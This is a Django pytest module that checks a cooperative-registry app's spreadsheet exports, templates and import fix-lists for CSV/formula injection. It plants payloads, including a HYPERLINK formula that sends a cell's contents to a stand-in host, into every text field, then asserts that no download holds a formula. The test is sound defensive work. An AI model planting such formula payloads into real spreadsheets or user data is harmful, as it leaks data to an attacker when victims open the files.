"""Every spreadsheet download, with hostile text planted in every text field it shows (issue 12,
defect 1): no .xlsx holds a formula cell, no CSV cell starts like a formula, and the text is
kept. The downloads are found by walking the URL resolver, so a new one fails here until it
is listed in DOWNLOADS (with the data that reaches it) or in NOT_SPREADSHEETS."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from hoptac.core.spreadsheet_safety import CSV_MARK, FORMULA_TRIGGERS
from hoptac.market import services as market_services
from hoptac.market.choices import Category, LinkKind
from hoptac.registry.tests.factories import CooperativeFactory
from hoptac.reports.tests.factories import approved_report
from hoptac.support import services as support_services
from hoptac.support.choices import CourseTopic, FundingSource, ParticipantRole
from hoptac.support.models import Policy

pytestmark = pytest.mark.django_db

# What the outside probe planted, and the other starts OWASP names.
PAYLOADS = (
    '=HYPERLINK("http://x.example/?s="&B2,"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
YEAR = 2019

# URL names that serve a file, found by name ("<thing>_export", "…_template", "…_xlsx",
# "…_fix_list", "…_download"…) or by a path segment "xuat" (export) or "mau" (template).
_LOOKS_LIKE_DOWNLOAD = re.compile(
    r"(_export|_template|_xlsx|_csv|_fix_list|_docx|_pdf|_download|_document|_photo)$"
)
_DOWNLOAD_PATH = re.compile(r"(^|/)(xuat|mau)/|\.(xlsx|csv|docx|pdf)$")
# Downloads that are not spreadsheets we write.
NOT_SPREADSHEETS = {
    "reports:national_forms_docx": "a Word document (python-docx): no formulas",
    "support:attachment_download": "a file an officer uploaded, served as it came",
    "plans:plan_document": "a plan's document as it was uploaded",
    "market:product_photo": "an image",
}


def _named_urls(resolver: URLResolver | None = None, prefix: str = "") -> Iterator[tuple[str, str]]:
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            for name, route in _named_urls(pattern, namespace):
                yield name, f"{pattern.pattern}{route}"
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def _spreadsheet_urls() -> set[str]:
    return {
        name
        for name, route in _named_urls()
        if not name.startswith("admin:")
        and (_LOOKS_LIKE_DOWNLOAD.search(name) or _DOWNLOAD_PATH.search(route))
    }


# --- the data -----------------------------------------------------------------------------


@dataclass
class Planted:
    cooperatives: list[Any]
    course: Any
    report: Any  # the HTX with the first payload's approved report


@pytest.fixture
def planted(bac_kan, luong_bang) -> Planted:
    """Each payload in every text field of an HTX, its product, link and partner, its support,
    a budget, a course participant and its approved report of YEAR."""
    policy = Policy.objects.create(code="bk-x", name="Hỗ trợ", kind="branding", area=bac_kan)
    course = support_services.course_save(
        by=None, title="Tập huấn", topic=CourseTopic.COOPERATIVE_LAW, starts_on=date(YEAR, 3, 1),
        ends_on=date(YEAR, 3, 2), organiser="UBND xã", area=luong_bang,
    )  # fmt: skip
    cooperatives, reports = [], []
    for index, payload in enumerate(PAYLOADS):
        cooperative = CooperativeFactory(
            name=payload, short_name=payload, street=payload, representative_name=payload,
            representative_title=payload, registering_authority=payload, business_lines=payload,
        )  # fmt: skip
        cooperatives.append(cooperative)
        market_services.product_save(
            by=None, cooperative=cooperative, name=payload, category=Category.TEA,
            unit=payload[:40], season=payload,
        )  # fmt: skip
        company = market_services.company_save(
            by=None, name=payload, tax_code=f"47009000{index:02d}", address=payload
        )
        market_services.link_save(
            by=None, cooperative=cooperative, company=company, kind=LinkKind.OUTPUT,
            product_name=payload, volume_unit=payload[:40], starts_on=date(YEAR, 1, 1),
            note=payload,
        )  # fmt: skip
        support_services.grant_record(
            by=None, cooperative=cooperative, policy=policy, granted_on=date(YEAR, 5, 2),
            source=FundingSource.PROVINCE, amount=Decimal(1_000_000), in_kind=payload,
            note=payload, override_reason=payload,
        )  # fmt: skip
        support_services.budget_save(
            by=None, policy=policy, year=YEAR + index, area=bac_kan,
            source=FundingSource.PROVINCE, amount=Decimal(5_000_000), note=payload,
        )  # fmt: skip
        support_services.participant_save(
            by=None, course=course, name=payload, role=ParticipantRole.MANAGER,
            cooperative=cooperative, certificate=payload[:64],
        )  # fmt: skip
        reports.append(approved_report(cooperative, YEAR, notes=payload))
    return Planted(cooperatives, course, reports[0])


# --- hostile files an officer imports: their rows come back in the fix-list ---------------


def _hostile_rows(header: list[str], row: Callable[[str], list[Any]]) -> list[list[Any]]:
    """A title line, the header and a row per payload."""
    return [[PAYLOADS[0]], header, *(row(payload) for payload in PAYLOADS)]


def _xlsx_upload(rows: list[list[Any]]) -> bytes:
    """A file as another program writes it, its payloads as text cells (as Excel keeps text
    typed after an apostrophe)."""
    book = openpyxl.Workbook()
    for values in rows:
        book.active.append(values)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _csv_upload(rows: list[list[Any]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return ("\ufeff" + buffer.getvalue()).encode()


def _upload(rows: list[list[Any]], fmt: str) -> SimpleUploadedFile:
    data = _xlsx_upload(rows) if fmt == "xlsx" else _csv_upload(rows)
    return SimpleUploadedFile(f"ds.{fmt}", data)


def _post(client: Any, url: str, data: dict[str, Any]) -> Any:
    """POST as the import pages do; the job it starts (check, import) runs at its commit."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(url, data)


def _registry_fix_list(client: Any, planted: Planted) -> Iterator[tuple[str, bytes]]:
    # Each row has a bad registration code, so none is imported and all go to the fix-list.
    rows = _hostile_rows(
        ["Tên HTX", "Mã số HTX", "Địa chỉ", PAYLOADS[1]],
        lambda text: [text, "12345", text, text],
    )
    for fmt in ("xlsx", "csv"):
        response = client.post(reverse("registry:cooperative_import"), {"file": _upload(rows, fmt)})
        url = response["Location"]
        form = client.get(url).context["form"]
        mapping = {name: form[name].value() or "" for name in form.fields}
        _post(client, url, {**mapping, "action": "import_valid"})
        import_id = url.rstrip("/").rsplit("/", 1)[1]
        name = reverse("registry:cooperative_import_fix_list", args=[import_id])
        yield fmt, _content(client.get(name))


def _report_fix_list(client: Any, planted: Planted) -> Iterator[tuple[str, bytes]]:
    # Each row names an HTX that does not exist, so all go to the fix-list.
    rows = _hostile_rows(
        ["Mã số HTX", "Tên HTX", "Năm báo cáo", "Ghi chú", PAYLOADS[2]],
        lambda text: ["4799999999", text, YEAR, text, text],
    )
    for fmt in ("xlsx", "csv"):
        response = _post(client, reverse("reports:report_import"), {"file": _upload(rows, fmt)})
        url = response["Location"]
        _post(client, url, {"action": "import_valid"})
        import_id = url.rstrip("/").rsplit("/", 1)[1]
        yield fmt, _content(client.get(reverse("reports:report_import_fix_list", args=[import_id])))


def _support_fix_list(
    page: str, header: list[str], row: Callable[[str], list[Any]], args: Callable[[Planted], list]
) -> Download:
    def download(client: Any, planted: Planted) -> Iterator[tuple[str, bytes]]:
        rows = _hostile_rows(header, row)
        for fmt in ("xlsx", "csv"):
            url = reverse(page, args=args(planted))
            response = _post(client, url, {"file": _upload(rows, fmt)})
            detail = response["Location"]
            _post(client, detail, {"action": "import_valid"})
            yield fmt, _content(client.get(client.get(detail).context["fix_list_url"]))

    return download


def _get(name: str, *, args: Callable[[Planted], list[Any]] = lambda p: [], **query: Any) -> Any:
    def download(client: Any, planted: Planted) -> Iterator[tuple[str, bytes]]:
        fmt = query.get("format", "xlsx")
        yield fmt, _content(client.get(reverse(name, args=args(planted)), query))

    return download


# name → (how to download it, the payloads that reach it)
Download = Callable[[Any, Planted], Iterator[tuple[str, bytes]]]
DOWNLOADS: dict[str, tuple[Download, tuple[str, ...]]] = {
    "registry:cooperative_export": (_get("registry:cooperative_export"), PAYLOADS),
    "registry:cooperative_export?csv": (
        _get("registry:cooperative_export", format="csv"),
        PAYLOADS,
    ),
    "registry:cooperative_import_template": (_get("registry:cooperative_import_template"), ()),
    "registry:cooperative_import_fix_list": (_registry_fix_list, PAYLOADS),
    "reports:report_export": (_get("reports:report_export", year=YEAR), PAYLOADS),
    "reports:report_import_template": (_get("reports:report_import_template"), ()),
    "reports:report_import_fix_list": (_report_fix_list, PAYLOADS),
    "reports:national_forms_xlsx": (
        _get("reports:national_forms_xlsx", args=lambda p: [p.report.pk]),
        PAYLOADS[:1],
    ),
    "support:budget_export": (_get("support:budget_export"), PAYLOADS),
    "support:grant_export": (_get("support:grant_export"), PAYLOADS),
    # each row names an HTX that does not exist (a person of no known unit): all in the fix-list
    "support:grant_import_fix_list": (
        _support_fix_list(
            "support:grant_import",
            ["Tên HTX", "Chính sách", "Ngày hỗ trợ", "Nguồn kinh phí", PAYLOADS[1]],
            lambda text: [text, text, "01/03/2019", "Tỉnh", text],
            lambda p: [],
        ),
        PAYLOADS,
    ),
    "support:participant_import_fix_list": (
        _support_fix_list(
            "support:participant_import",
            ["Họ và tên", "Vai trò", "Đơn vị", PAYLOADS[1]],
            lambda text: [text, "Cán bộ", text, text],
            lambda p: [p.course.pk],
        ),
        PAYLOADS,
    ),
    "support:grant_template": (_get("support:grant_template"), ()),
    "support:participant_template": (_get("support:participant_template"), ()),
    "support:participant_export": (
        _get("support:participant_export", args=lambda p: [p.course.pk]),
        PAYLOADS,
    ),
    "market:product_export": (_get("market:product_export"), PAYLOADS),
    # each row names an HTX by a code no HTX has: all in the fix-list
    "market:product_import_fix_list": (
        _support_fix_list(
            "market:product_import",
            ["Mã số HTX", "Tên sản phẩm", "Nhóm sản phẩm", PAYLOADS[1]],
            lambda text: [text, text, "Chè", text],
            lambda p: [],
        ),
        PAYLOADS,
    ),
    "market:product_template": (_get("market:product_template"), ()),
    "market:link_export": (_get("market:link_export"), PAYLOADS),
    # Found by its ?format=, not its name: the written report's tables hold figures and the
    # names of areas and indicators (our own data), no text a user typed.
    "indicators:report?xlsx": (_get("indicators:report", format="xlsx"), ()),
}


def _content(response: Any) -> bytes:
    assert response.status_code == 200, response
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


# --- reading what came back -----------------------------------------------------------------


_XSTRING_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def xstring(text: str) -> str:
    """The text an .xlsx cell holds: control characters are written `_x000D_` (ECMA-376
    Part 1, 22.9.2.19 ST_Xstring), which Excel and python-calamine read back and openpyxl
    does not; `_x005F_` is the underscore of a literal `_x…_`."""
    return _XSTRING_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def _xlsx_texts(data: bytes) -> list[str]:
    """Every text cell of every sheet (as Excel reads it); fails on any formula (or error)
    cell."""
    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: data_type is kept
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(xstring(cell.value))
    return texts


def _csv_texts(data: bytes) -> list[str]:
    """Every cell of the CSV with its quote mark dropped; fails on a cell that starts like a
    formula, unless it is a number."""
    text = data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_TRIGGERS):
            float(cell)  # only a genuine (negative) number may start with "-"
    return [cell[1:] if cell.startswith(CSV_MARK) else cell for cell in cells]


def test_every_spreadsheet_download_is_known():
    """A new download must be listed in DOWNLOADS (and get hostile data) or NOT_SPREADSHEETS."""
    known = {name.split("?")[0] for name in DOWNLOADS} | set(NOT_SPREADSHEETS)
    assert _spreadsheet_urls() - known == set()
    assert known - {"indicators:report"} <= _spreadsheet_urls()  # the list is not stale


@pytest.mark.parametrize("name", DOWNLOADS)
def test_no_download_holds_a_formula(client, admin, planted, settings, tmp_path, name):
    settings.VAR_DIR = tmp_path
    client.force_login(admin)
    download, reached = DOWNLOADS[name]
    files = list(download(client, planted))
    assert files
    for fmt, data in files:
        texts = _xlsx_texts(data) if fmt == "xlsx" else _csv_texts(data)
        assert texts
        assert [p for p in reached if p not in texts] == [], fmt  # the text is kept
